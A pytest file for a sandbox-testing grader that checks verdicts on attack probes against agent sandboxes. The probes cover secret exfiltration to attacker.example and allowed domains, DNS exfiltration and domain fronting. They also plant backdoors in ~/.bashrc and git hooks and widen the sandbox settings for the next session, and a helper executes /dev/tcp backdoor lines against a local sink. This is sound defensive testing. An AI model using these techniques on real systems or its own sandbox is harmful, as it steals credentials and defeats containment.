"""The probe records: what the runner is told and what the judge looks for cannot drift apart.

The real runner (``services/probe_runner.py``) carries out each probe's orders
against a fake world: files under a temporary directory, and a network where
every request arrives and is logged the way the simulated internet logs it.
Every attack must then be judged ``succeeded`` from that evidence alone, and
``blocked`` from a run where nothing arrived. A marker typed differently on
the two sides fails here, without Docker.
"""

from __future__ import annotations

import contextlib
import io
import json
import secrets
import subprocess
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from grader import load_policy
from grader.core.access import access_for, baseline_access
from grader.core.evidence import Evidence, Markers, parse_runner_output, sha256
from grader.core.probes import PROBES, OrderContext, orders_for, probe
from grader.core.records import RawPorts
from grader.services import probe_runner
from grader.core.verdicts import judge
from grader.core.world import World, load_world
from grader.protocol import wire
import fakewire

TCP_PORT, HOST_PORT = 4444, 4555


class FakeNet:
    """Every request arrives: logs shaped like the simulated internet's (sink, DNS, TCP, host listener)."""

    def __init__(self, token: str) -> None:
        self.http: list[dict[str, Any]] = []
        self.dns: list[dict[str, Any]] = []
        self.tcp: list[dict[str, Any]] = []
        self.host_hits: list[str] = []


def _agent(net: FakeNet, *, slow: bool = False, slow_first: bool = False) -> probe_runner.Agent:
    agent = probe_runner.Agent(fakewire.orders([]))

    def http(pid: str, method: str, url: str, body: bytes | None = None, via: str | None = None,
             retries: int = 0) -> bool:
        if slow_first and retries:  # a busy moment: the first attempt times out, the one after it is answered
            probe_runner.emit(pid, "http", False, f"{method} {url}: URLError: <urlopen error timed out>", target=url)
        if slow:  # an overloaded machine: nothing answers in time
            probe_runner.emit(pid, "http", False, f"{method} {url}: URLError: <urlopen error timed out>", target=url)
            return False
        u = urlsplit(url)
        net.http.append({"host": u.hostname, "method": method, "path": u.path, "scheme": u.scheme,
                         "body": (body or b"").decode(), "body_len": len(body or b"")})
        probe_runner.emit(pid, "http", True, f"{method} {url}: 200", target=url)
        return True

    def tcp(pid: str, host: str, port: int, payload: bytes) -> None:
        if port == HOST_PORT:
            net.host_hits.append(payload.decode())
        net.tcp.append({"port": port, "data": payload.decode(), "client": "10.0.0.2"})
        probe_runner.emit(pid, "tcp", True, f"{host}:{port} answered", target=f"{host}:{port}")

    def dns(pid: str, name: str) -> None:
        net.dns.append({"qname": name + ".", "client": "10.0.0.2"})
        probe_runner.emit(pid, "dns", True, f"{name} -> 10.0.0.9", target=name)

    def front(pid: str, step: wire.FrontStep) -> None:
        attempts = step.attempts
        if not attempts:  # only the proxy's decision on the host: refused, as the empty proxy log says
            probe_runner.emit(pid, "front", False, f"CONNECT {step.connect}:443: ConnectionRefusedError: the proxy answered "
                                                   "HTTP/1.1 403 Forbidden", target=step.connect)
        for a in attempts:  # as on a shared front: whatever name is asked for receives it
            target = f"{step.connect}>{a.sni}>{a.host}"
            if slow:
                probe_runner.emit(pid, "front", False, f"{target}: TimeoutError: timed out", target=target)
                continue
            net.http.append({"host": a.host, "method": "POST", "path": step.request_path, "scheme": "https",
                             "body": step.body, "body_len": len(step.body)})
            probe_runner.emit(pid, "front", True, f"{target}: HTTP/1.1 200 OK", target=target)

    agent.http = http  # type: ignore[method-assign]
    agent.front = front  # type: ignore[method-assign]
    agent.tcp = tcp  # type: ignore[method-assign]
    agent.dns = dns  # type: ignore[method-assign]
    return agent


def _lay_out(world: World, root: Path) -> tuple[dict[str, str], dict[str, str]]:
    canaries, before = {}, {}
    for f in world.files:
        canaries[f.path] = secrets.token_hex(8)
        host = root / f.path.lstrip("/")
        host.parent.mkdir(parents=True, exist_ok=True)
        host.write_text(f.content.replace("{canary}", canaries[f.path]))
        before[f.path] = sha256(host.read_bytes())
    for d in list(world.dirs) + list(world.outputs):
        (root / d.path.lstrip("/")).parent.mkdir(parents=True, exist_ok=True)
    return canaries, before


def _run(tmp_path: Path, *, arrive: bool, slow: bool = False, slow_first: bool = False) -> tuple[Evidence, World]:
    world = load_world()
    token = secrets.token_hex(6)
    canaries, before = _lay_out(world, tmp_path)
    ctx = OrderContext(
        markers=Markers(token, world.attacker.name), attacker_ip="10.0.0.9", raw=RawPorts.same(world.raw_ports),
        host_port=HOST_PORT, gateway_names=("host.docker.internal",), hosts=world.host_names,
        loot=tuple(s.path for s in world.secrets), rebase=lambda p: str(tmp_path / p.lstrip("/")),
        settings=world.file("/home/user/.srt-settings.json").content,  # as runner_config gives it
    )
    net = FakeNet(token)
    agent = _agent(net, slow=slow, slow_first=slow_first)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        for spec in fakewire.orders(orders_for(tuple(p.id for p in PROBES), ctx)).probes:  # as the runner reads it
            agent.run(spec)
    after = {}
    for path in [f.path for f in world.files] + [o.path for o in world.outputs]:
        host = tmp_path / path.lstrip("/")
        if host.exists():
            after[path] = host.read_bytes()
    if not arrive:  # the attempts are on record, but nothing reached any recorder
        net = FakeNet(token)
    ev = Evidence(
        token=token, canaries=canaries, records=parse_runner_output(out.getvalue()), before=before, after=after,
        network="proxy", http=fakewire.all_of(net.http), dns=fakewire.all_of(net.dns), tcp=fakewire.all_of(net.tcp),
        host_hits=tuple(net.host_hits), raw=RawPorts.same(world.raw_ports), host_port=HOST_PORT,
    )
    return ev, world


def test_every_probe_has_all_four_parts() -> None:
    for p in PROBES:
        assert p.story.endswith(".") and p.orders and p.predict and p.judge and p.fix, p.id


def test_orders_are_json_and_carry_no_canary(tmp_path: Path) -> None:
    world = load_world()
    ctx = OrderContext(Markers("t0k3n", world.attacker.name), "10.0.0.9", RawPorts.same(world.raw_ports), HOST_PORT, (), world.host_names,
                       tuple(s.path for s in world.secrets))
    orders = [json.loads(wire.dump(o)) for o in orders_for(tuple(p.id for p in PROBES), ctx)]  # as the runner gets them
    assert [o["id"] for o in orders] == [p.id for p in PROBES]
    assert all(o["steps"] for o in orders), "every probe does something"
    assert "{canary}" not in json.dumps(orders)


def test_when_everything_arrives_every_probe_is_judged_succeeded(tmp_path: Path) -> None:
    ev, world = _run(tmp_path, arrive=True)
    verdicts = {o.id: o for o in judge(ev, world, [p.id for p in PROBES])}
    wrong = {pid: (o.outcome, o.explanation) for pid, o in verdicts.items() if o.outcome != "succeeded"}
    assert not wrong, wrong
    assert all(o.evidence for o in verdicts.values())


def test_when_nothing_arrives_every_network_probe_is_blocked_with_evidence(tmp_path: Path) -> None:
    ev, world = _run(tmp_path, arrive=False)
    verdicts = {o.id: o for o in judge(ev, world, [p.id for p in PROBES])}
    for p in PROBES:
        if p.action in ("net", "exfil", "fetch"):
            assert verdicts[p.id].outcome == "blocked", (p.id, verdicts[p.id])
            assert verdicts[p.id].evidence


def test_a_request_that_timed_out_is_never_taken_for_blocked(tmp_path: Path) -> None:
    ev, world = _run(tmp_path, arrive=False, slow=True)
    verdicts = {o.id: o for o in judge(ev, world, [p.id for p in PROBES])}
    for pid in ("net-attacker-domain", "exfil-via-allowed-domain", "exfil-secret", "job-fetch-npm", "net-dns-exfil"):
        assert verdicts[pid].outcome == "error", (pid, verdicts[pid])
        assert "timed out" in verdicts[pid].explanation


@pytest.mark.parametrize("arrive", [True, False])
def test_a_request_answered_when_asked_again_is_judged_by_that_answer(tmp_path: Path, arrive: bool) -> None:
    """Uploads and stolen secrets are sent once more after a timeout; the answer to the retry decides."""
    ev, world = _run(tmp_path, arrive=arrive, slow_first=True)
    assert any("timed out" in r.detail for r in ev.records if r.probe == "exfil-via-allowed-domain")
    verdicts = {o.id: o for o in judge(ev, world, ["exfil-via-allowed-domain", "exfil-secret"])}
    for pid, o in verdicts.items():
        assert o.outcome == ("succeeded" if arrive else "blocked"), (pid, o)


def test_the_runner_asks_again_only_after_a_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    agent = probe_runner.Agent(fakewire.orders([]))
    calls: list[str] = []

    def timeout(method: str, url: str, body: Any, direct: bool = False) -> Any:
        calls.append(url)
        raise TimeoutError("timed out")

    monkeypatch.setattr(agent, "exchange", timeout)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert agent.http("p", "POST", "https://gist.github.com/x", b"b", retries=1) is False
    assert len(calls) == 2
    assert len(parse_runner_output(out.getvalue())) == 2  # each attempt on record

    def refused(method: str, url: str, body: Any, direct: bool = False) -> Any:
        calls.append(url)
        raise ConnectionRefusedError(111, "refused")

    calls.clear()
    monkeypatch.setattr(agent, "exchange", refused)
    with contextlib.redirect_stdout(io.StringIO()):
        agent.http("p", "POST", "https://gist.github.com/x", b"b", retries=1)
    assert len(calls) == 1  # an answer: asking again changes nothing


@pytest.mark.parametrize("networked, tries", [(True, 2), (False, 1)])
def test_a_fronting_tunnel_not_reached_is_asked_again_only_where_something_is_reachable(
    monkeypatch: pytest.MonkeyPatch, networked: bool, tries: int,
) -> None:
    """A sandbox with no proxy and only loopback (``--network none``) reaches nothing half a second later either:
    asking again there only made every such run wait 0.5 s. Elsewhere a host not reached is asked once more."""
    monkeypatch.setattr(probe_runner, "has_interface", lambda: networked)
    monkeypatch.setattr(probe_runner.time, "sleep", lambda s: None)
    agent = probe_runner.Agent(fakewire.orders([]))
    assert agent.networked is networked
    tunnels: list[str] = []

    def unreachable(host: str, port: int) -> Any:
        tunnels.append(host)
        raise OSError(-3, "Temporary failure in name resolution")

    monkeypatch.setattr(agent, "_tunnel", unreachable)
    step = wire.FrontStep("github.com", 443, (wire.FrontAttempt("attacker.example", "attacker.example"),), "/", "x")
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        agent.front("net-domain-fronting", step)
    assert len(tunnels) == tries
    (rec,) = parse_runner_output(out.getvalue())
    assert not rec.ok and wire.TUNNEL_NOT_OPENED in rec.detail  # not reached: on record, never "blocked" by itself


def test_a_proxy_makes_a_sandbox_networked_whatever_its_interfaces(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(probe_runner, "has_interface", lambda: False)  # srt: a proxy reached through loopback
    assert probe_runner.Agent(fakewire.orders([], proxy="http://127.0.0.1:3128")).networked


def test_a_steal_sends_every_readable_secret_in_one_request_per_url_and_records_only_its_own_read(tmp_path: Path) -> None:
    """The web sends of every secret ride on one step: each URL is asked once, its body holds every file the
    sandbox could read (the first unreadable or not), and the other files' reads are their own steps' records."""
    first, second, gone = tmp_path / "id_rsa", tmp_path / "creds", tmp_path / "absent"
    second.write_text("  CANARY-2  \n")
    net = FakeNet("t")
    agent = _agent(net)
    step = wire.StealStep(str(first), ".s0.t.attacker.example", ("https://a.example/upload/t.s", "https://b.example/upload/t.s"),
                          ("https://files.example/npm/t.s/",), None, (str(second), str(gone)))
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        agent.steal("exfil-secret", step)  # its own file is unreadable: the others still go out
    assert [(r["host"], r["method"]) for r in sorted(net.http, key=lambda r: r["host"])] == [
        ("a.example", "POST"), ("b.example", "POST"), ("files.example", "GET")]
    assert all(r["body"] == "CANARY-2" for r in net.http if r["method"] == "POST")
    assert next(r["path"] for r in net.http if r["method"] == "GET").endswith("CANARY-2")
    reads = [r for r in parse_runner_output(out.getvalue()) if r.step == "read"]
    assert [(r.target, r.ok) for r in reads] == [(str(first), False)]  # one read on record: the step's own
    assert not net.dns and not net.tcp  # nothing of its own was read: nothing to spell into names

    first.write_text("CANARY-1")
    net.http.clear()
    with contextlib.redirect_stdout(io.StringIO()):
        agent.steal("exfil-secret", step)
    assert {r["body"] for r in net.http if r["method"] == "POST"} == {"CANARY-1\nCANARY-2"}
    assert net.dns  # its own file, spelled into names


def test_a_marker_from_another_run_proves_nothing(tmp_path: Path) -> None:
    ev, world = _run(tmp_path, arrive=True)
    other = Evidence(**{**ev.__dict__, "token": "ffffffffffff"})
    verdicts = {o.id: o.outcome for o in judge(other, world, [p.id for p in PROBES])}
    for pid in ("net-direct-ip", "net-dns-exfil", "net-attacker-domain", "net-host-gateway",
                "exfil-via-allowed-domain", "job-fetch-npm", "job-fetch-pypi"):
        assert verdicts[pid] != "succeeded", pid


@pytest.mark.parametrize("pid", [p.id for p in PROBES if p.kind == "attack"])
def test_every_attack_has_a_fix_that_names_a_policy_key(pid: str) -> None:
    p = probe(pid)
    fix = p.fix(p, access_for(load_policy({"filesystem": {"allowWrite": ["/home/user", "/project"]},
                                            "network": {"allowedDomains": ["*.github.com"]}}), load_world()))
    assert "filesystem." in fix or "network." in fix or "allowedDomains" in fix


def test_predictions_of_the_plain_container() -> None:
    access = baseline_access(load_world())
    assert all(p.predict(p, access)[0] for p in PROBES if p.kind == "attack" and p.id != "read-etc-secrets")


# --- names the world does not know, and host identity ------------------------------------------------


def _ctx(allowed: tuple[str, ...], token: str = "t0k3n") -> OrderContext:
    world = load_world()
    return OrderContext(Markers(token, world.attacker.name), "10.0.0.9", RawPorts.same(world.raw_ports), HOST_PORT, (), world.host_names,
                        tuple(s.path for s in world.loot), allowed=allowed,
                        uploads=tuple(h.name for h in world.hosts if h.uploads and not h.attacker))


def test_every_allowed_name_and_a_fresh_name_under_every_allowed_wildcard_is_an_exfiltration_target() -> None:
    ctx = _ctx(("pypi.org", "webhook.site", "169.254.169.254", "*.ngrok.io"))
    orders = {o.id: json.loads(wire.dump(o))["steps"] for o in orders_for(("exfil-via-allowed-domain", "exfil-secret"), ctx)}
    upload_hosts = {urlsplit(s["url"]).hostname for s in orders["exfil-via-allowed-domain"]}
    assert {"webhook.site", "169.254.169.254", "t0k3nup.ngrok.io", "pypi.org"} <= upload_hosts
    first, *rest = orders["exfil-secret"]
    stolen_to = {urlsplit(u).hostname for u in first["urls"]}
    assert {"webhook.site", "169.254.169.254"} <= stolen_to and any(h.endswith(".ngrok.io") for h in stolen_to)
    # every other secret rides along in those same requests, and has only its DNS and raw TCP sends of its own
    assert [first["path"], *first["also"]] == [s["path"] for s in orders["exfil-secret"]] == list(ctx.loot)
    assert all(not s["urls"] and not s["get_urls"] and not s["also"] and s["dns_suffix"] and s["tcp"] for s in rest)


def test_fronting_orders_ask_the_proxy_about_each_target_then_name_it_inside_every_allowed_hosts_tunnel() -> None:
    steps = json.loads(wire.dump(orders_for(("net-domain-fronting",), _ctx(("pypi.org", "*.github.com")))[0]))["steps"]
    asked = [s["connect"] for s in steps if not s["attempts"]]
    assert {"attacker.example", "t0k3nfront.attacker.example", "upload.pypi.org", "gist.github.com"} <= set(asked)
    fronts = {s["connect"]: s["attempts"] for s in steps if s["attempts"]}
    assert {"pypi.org", "gist.github.com", "codeload.github.com", "t0k3nfr.github.com"} <= set(fronts)
    assert {"sni": "attacker.example", "host": "attacker.example"} in fronts["pypi.org"]
    assert {"sni": "pypi.org", "host": "upload.pypi.org"} in fronts["pypi.org"]  # classic fronting: the SNI is the allowed host


def _front_evidence(http: list[dict[str, Any]], proxy: list[dict[str, Any]], token: str = "t0k3n") -> Evidence:
    runner = fakewire.runner_records([
        {"probe": "net-domain-fronting", "step": "front", "ok": False, "target": "pypi.org>attacker.example>attacker.example",
         "detail": "CONNECT pypi.org:443, then SNI attacker.example and Host attacker.example: SSLError: unrecognized name"},
        {"probe": "net-domain-fronting", "step": "front", "ok": False, "target": "pypi.org>pypi.org>upload.pypi.org",
         "detail": "CONNECT pypi.org:443, then SNI pypi.org and Host upload.pypi.org: HTTP/1.1 421 Misdirected Request"},
        {"probe": "net-domain-fronting", "step": "done", "ok": True},
    ])
    return Evidence(token=token, canaries={}, records=runner, before={}, after={}, network="proxy",
                    http=fakewire.all_of(http), proxy=fakewire.all_of(proxy))


ALLOWED_PYPI = {"method": "CONNECT", "host": "pypi.org", "port": 443, "decision": "allow", "reason": 'matches allowed entry "pypi.org"'}
DENIED_ATTACKER = {"method": "CONNECT", "host": "attacker.example", "port": 443, "decision": "deny", "reason": "not in the allowed list"}


def test_fronting_is_blocked_when_the_servers_refused_every_other_name() -> None:
    refused = {"host": "pypi.org", "misdirected": "upload.pypi.org", "stage": "http", "method": "POST", "path": "/front/t0k3n"}
    v = probe("net-domain-fronting").judge(probe("net-domain-fronting"), _front_evidence([refused], [ALLOWED_PYPI, DENIED_ATTACKER]), load_world())
    outcome, _, evidence = v.outcome, v.why, v.proof
    assert outcome == "blocked"
    assert "tunnels to pypi.org" in evidence[0] and "refused 1 outright (421 Misdirected Request)" in evidence[0]


def test_fronting_succeeds_only_where_data_reached_a_host_the_proxy_did_not_let_through() -> None:
    p, world = probe("net-domain-fronting"), load_world()
    smuggled = {"host": "attacker.example", "via": "pypi.org", "method": "POST", "path": "/front/t0k3n", "body": "fronted t0k3n"}
    v = p.judge(p, _front_evidence([smuggled], [ALLOWED_PYPI, DENIED_ATTACKER]), world)
    outcome, _, evidence = v.outcome, v.why, v.proof
    assert outcome == "succeeded" and evidence == ("attacker.example received POST /front/t0k3n inside the tunnel the proxy opened to pypi.org",)
    let_through = {**ALLOWED_PYPI, "host": "attacker.example"}
    assert p.judge(p, _front_evidence([smuggled], [ALLOWED_PYPI, let_through]), world).outcome == "blocked"  # allowed anyway
    other_run = {**smuggled, "path": "/front/ffffff"}
    assert p.judge(p, _front_evidence([other_run], [ALLOWED_PYPI]), world).outcome == "blocked"


def test_the_attacker_reads_what_reaches_a_name_the_world_does_not_know() -> None:
    from grader.core.evidence import attacker_reads

    world = load_world()
    for name in ("webhook.site", "localhost", "169.254.169.254", "x.y.attacker.example", "gist.github.com"):
        assert attacker_reads(world, name), name
    for name in ("pypi.org", "abc.github.com", "heartbeat.invalid"):
        assert not attacker_reads(world, name), name


# --- the backdoors the persistence probes write, played as the next session would ---------------


def _play_backdoors(text: str, root: Path) -> list[dict[str, Any]]:
    """Run every backdoor line of a written file as the next session's shell would (``sh -c``), with the world at
    ``root`` and a network where every request arrives, logged as the simulated internet logs it."""
    import http.server
    import re
    import threading

    logged: list[dict[str, Any]] = []

    class Sink(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            logged.append({"host": self.headers["Host"], "method": "POST", "path": self.path, "body": body.decode()})
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Sink)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        for line in text.splitlines():
            if line.startswith("bash -c '"):
                # every host is the sink; the key is read from the world copy, where the next session sees it
                line = re.sub(r"/dev/tcp/[^/]+/\d+", f"/dev/tcp/127.0.0.1/{server.server_port}", line)
                subprocess.run(["sh", "-c", line.replace("k=/home/", f"k={root}/home/")], timeout=20, check=True)
    finally:
        server.shutdown()
        server.server_close()
    return logged


def test_the_shell_rc_backdoor_sends_the_key_when_the_next_shell_runs_it(tmp_path: Path) -> None:
    from dataclasses import replace

    from grader.core.evidence import NextSession

    ev, world = _run(tmp_path, arrive=True)
    text = (tmp_path / "home/user/.bashrc").read_text()
    assert text.startswith("# ~/.bashrc "), "appended: the file keeps working"
    sent = _play_backdoors(text, tmp_path)
    assert sent and sent[0]["host"] == "attacker.example" and ev.canaries["/home/user/.ssh/id_rsa"] in sent[0]["body"]
    fired = replace(ev, next_session=NextSession(played=("new-terminal",), http=fakewire.all_of(sent)))
    o = {x.id: x for x in judge(fired, world, ["write-shell-rc"])}["write-shell-rc"]
    assert o.outcome == "succeeded"
    assert o.evidence[-1].startswith("the backdoor ran in the next shell and sent ~/.ssh/id_rsa to attacker.example: attacker.example logged POST")
    assert "with the canary of /home/user/.ssh/id_rsa in its body" in o.evidence[-1]


def test_the_hook_backdoor_runs_before_the_hooks_exec(tmp_path: Path) -> None:
    ev, world = _run(tmp_path, arrive=True)
    lines = (tmp_path / "project/.git/hooks/pre-commit").read_text().splitlines()
    assert lines[0] == "#!/bin/sh"
    door = next(i for i, line in enumerate(lines) if line.startswith("bash -c '"))
    assert door < next(i for i, line in enumerate(lines) if line.startswith("exec ")), lines
    assert _play_backdoors("\n".join(lines), tmp_path)[0]["path"].endswith("/write-git-hook")


def test_the_settings_backdoor_widens_the_next_session_and_keeps_the_rest(tmp_path: Path) -> None:
    from grader.core.next_session import read_settings

    ev, world = _run(tmp_path, arrive=True)
    text = (tmp_path / "home/user/.srt-settings.json").read_text()
    assert ev.canaries["/home/user/.srt-settings.json"] in text, "widened in place: the scope scan still finds its canary"
    policy, why = read_settings(text)
    assert policy is not None, why
    assert policy.network.allowedDomains == ("attacker.example",)
    assert policy.filesystem.allowWrite == ("/project/out",)  # the user's own rule, kept
    nxt = access_for(policy, world)
    assert nxt.reach("attacker.example").allowed and nxt.read("/home/user/.ssh/id_rsa").allowed


def test_a_landed_backdoor_that_did_not_fire_says_exactly_that(tmp_path: Path) -> None:
    from dataclasses import replace

    from grader.core.evidence import NextSession

    ev, world = _run(tmp_path, arrive=True)
    ids = ["write-shell-rc", "write-git-hook", "write-sandbox-settings"]
    cases = {
        None: "this backend does not play the next session",
        NextSession(played=("new-terminal", "login-shell", "git-commit-project"), settings="the settings are not valid JSON (x): the next session would refuse to start"):
            "nothing carrying the key's canary reached attacker.example",
        NextSession(infra_problem="the internet service vanished"): "cannot tell: the internet service vanished",
    }
    for ns, said in cases.items():
        verdicts = {o.id: o for o in judge(replace(ev, next_session=ns), world, ids)}
        for pid in ids:
            o = verdicts[pid]
            assert o.outcome == "succeeded", "the write landed: that is the verdict"
            assert o.evidence[-1].startswith("the write landed, but the backdoor did not fire in the next session: "), o.evidence
        assert said in verdicts["write-shell-rc"].evidence[-1]
    assert "would refuse to start" in judge(replace(ev, next_session=list(cases)[1]), world, ["write-sandbox-settings"])[0].evidence[-1]


def test_a_key_sent_by_the_sandbox_itself_is_no_backdoor_firing(tmp_path: Path) -> None:
    from dataclasses import replace

    from grader.core.evidence import NextSession

    ev, world = _run(tmp_path, arrive=True)
    # exfil-secret sent the key from inside the sandbox: not the backdoor's doing in the next session
    o = judge(replace(ev, next_session=NextSession(played=("new-terminal",))), world, ["write-shell-rc"])[0]
    assert "did not fire" in o.evidence[-1]


def test_persistence_predictions_name_the_backdoor_and_when_it_fires() -> None:
    """srt started in the home keeps ~/.bashrc read-only but not the project's git hooks; Claude Code, started in the
    project, the reverse: each backdoor the target leaves open is named with when it fires."""
    policy = load_policy({"filesystem": {"allowWrite": ["/home/user", "/project"]}})
    srt, claude = access_for(policy, load_world()), access_for(policy, load_world(), "claude-code")
    for access, pid, when in ((claude, "write-shell-rc", "in the next shell"),
                              (srt, "write-git-hook", "at the next git commit in /project"),
                              (srt, "write-sandbox-settings", "in the next sandboxed session")):
        ok, why = probe(pid).predict(probe(pid), access)
        assert ok and f"runs {when}" in why and "sends ~/.ssh/id_rsa to attacker.example" in why, why
    ok, why = probe("write-shell-rc").predict(probe("write-shell-rc"), srt)
    assert not ok and "mandatory write protections" in why, why
    ok, why = probe("write-git-hook").predict(probe("write-git-hook"), claude)
    assert not ok and "mandatory write protections" in why, why
